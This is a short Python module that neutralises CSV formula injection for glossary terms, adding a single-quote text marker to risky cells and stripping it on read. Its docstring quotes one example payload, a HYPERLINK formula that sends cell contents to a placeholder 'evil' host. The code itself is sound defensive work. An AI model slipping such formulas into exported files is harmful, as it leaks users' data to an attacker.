"""CSV cells a spreadsheet would not evaluate.

A cell starting with `=`, `+`, `-`, `@` (or a tab or carriage return before
one) is a formula to Excel, LibreOffice and Google Sheets: a glossary term
imported from a hostile TBX such as `=HYPERLINK("http://evil/?"&A1)` would
run when an editor opens the CSV. Every CSV the product writes goes through
`neutralise`, which puts the spreadsheet's own text marker, a single quote, in
front (OWASP's advice); `restore` takes it off when we read our own files, so
the term comes back as written. A cell that already starts with quotes before
such a character gets one more, so the round trip is exact.
"""

from __future__ import annotations

import re
from typing import Iterable

_FORMULA = re.compile(r"^'*[=+\-@\t\r]")
_MARKED = re.compile(r"^'+[=+\-@\t\r]")


def neutralise(cell: object) -> object:
    """The cell as a spreadsheet shows it as text (non-strings unchanged)."""
    return "'" + cell if isinstance(cell, str) and _FORMULA.match(cell) else cell


def restore(cell: str) -> str:
    """The value `neutralise` protected."""
    return cell[1:] if _MARKED.match(cell) else cell


def row(cells: Iterable[object]) -> list[object]:
    return [neutralise(c) for c in cells]
